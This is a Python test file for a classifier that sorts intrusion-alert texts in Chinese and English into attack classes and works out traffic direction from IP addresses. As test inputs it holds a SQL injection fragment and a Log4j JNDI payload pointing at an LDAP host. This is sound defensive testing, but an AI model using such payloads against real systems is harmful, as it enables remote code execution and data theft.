from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from engine import paths
from engine.classifier import shipped_classifier
from engine.detect.classes import Classifier, is_private, way_of
from engine.detect.lexicon import Usual
from engine.sources.event import parse
from engine.types import ReportedEvent

WORDS = Classifier(paths.CLASSES)


def event(name: str, content: str = "", src_ip: str = "192.0.2.1", dst_ip: str = "192.0.2.2") -> ReportedEvent:
    return ReportedEvent(0.0, src_ip, 1, dst_ip, 2, name, content)


@pytest.mark.parametrize(
    ("text", "wanted"),
    [
        ("SQL注入攻击 id=1 union select 1,2,database()", "sql_injection"),
        ("ET WEB_SERVER Possible Log4j ${jndi:ldap://203.0.113.1/a}", "web_exploit"),
        ("挖矿木马 主机与矿池stratum+tcp通信", "mining"),
        ("SSH brute force  500 failed passwords for root in 3 min", "brute_force"),
        ("ransom note dropped, all documents encrypted", "ransomware"),
        ("DNS隧道 iodine NULL记录", "dns_tunnel"),
    ],
)
def test_the_class_is_told_in_both_languages(text: str, wanted: str) -> None:
    for classifier in (WORDS, shipped_classifier()):
        assert classifier.classify(event(text)).event_class == wanted


def test_the_ranking_is_in_order_and_begins_with_the_answer() -> None:
    found = WORDS.classify(event("port scan", "nmap -sS"))
    shares = [share for _, share in found.ranking]
    assert found.ranking[0] == (found.event_class, found.confidence)
    assert shares == sorted(shares, reverse=True)


def test_it_says_what_it_went_by() -> None:
    assert WORDS.classify(event("x")).by == "words only"
    assert shipped_classifier().classify(event("x")).by == "rules and meaning"
    assert WORDS.version != shipped_classifier().version


def test_reasons_are_of_the_programs_own_words() -> None:
    found = WORDS.classify(event("sqlmap \x1b[31m <b>union select</b>", src_ip="203.0.113.1", dst_ip="10.0.0.1"))
    assert "it names union select, sqlmap" in found.reasons
    assert "it goes from outside to inside, as most events of the class do" in found.reasons


def test_a_text_without_meaning_leaves_it_unsure() -> None:
    assert WORDS.classify(event("lorem", "ipsum dolor")).confidence < 0.5


def test_the_same_report_is_always_told_the_same() -> None:
    line = parse("2023-10-09T11:23:00Z 10.0.0.1:1 203.0.113.1:2 beacon every 60 s with jitter")
    assert Classifier(paths.CLASSES).classify(line) == WORDS.classify(line)


@pytest.mark.parametrize(
    ("src_ip", "dst_ip", "way"),
    [
        ("203.0.113.1", "10.0.0.1", Usual.IN),
        ("fd00::1", "2001:db8::1", Usual.OUT),
        ("10.0.0.1", "192.168.0.1", Usual.INSIDE),
        ("203.0.113.1", "198.51.100.1", None),
    ],
)
def test_private_addresses_tell_which_way_it_goes(src_ip: str, dst_ip: str, way: Usual | None) -> None:
    assert way_of(src_ip, dst_ip) is way


def test_the_nets_of_documentation_stand_for_public_ones() -> None:
    assert not any(is_private(ip) for ip in ("192.0.2.1", "198.18.0.1", "2001:db8::1", "8.8.8.8"))


def test_a_way_that_is_unusual_makes_a_class_less_likely() -> None:
    text = "suspicious activity of a miner"
    out = WORDS.classify(event(text, src_ip="10.0.0.1", dst_ip="203.0.113.1"))
    into = WORDS.classify(event(text, src_ip="203.0.113.1", dst_ip="10.0.0.1"))
    assert dict(out.ranking)["mining"] >= dict(into.ranking).get("mining", 0)


@pytest.mark.parametrize("what", ["weights", "classes"])
def test_weights_that_do_not_fit_are_refused(tmp_path: Path, what: str) -> None:
    folder = shutil.copytree(paths.CLASSES, tmp_path / "classes")
    if what == "weights":
        (folder / "weights.npz").write_bytes(b"PK other")
    else:
        manifest = json.loads((folder / "manifest.json").read_text())
        (folder / "manifest.json").write_text(json.dumps(manifest | {"classes": ["one"]}))
    with pytest.raises(ValueError, match="weights"):
        Classifier(folder)


@given(st.text(max_size=300), st.text(max_size=300))
def test_any_text_has_a_class(name: str, content: str) -> None:
    found = WORDS.classify(event(name, content))
    assert found.event_class in WORDS.classes
    assert 0 < found.confidence <= 1
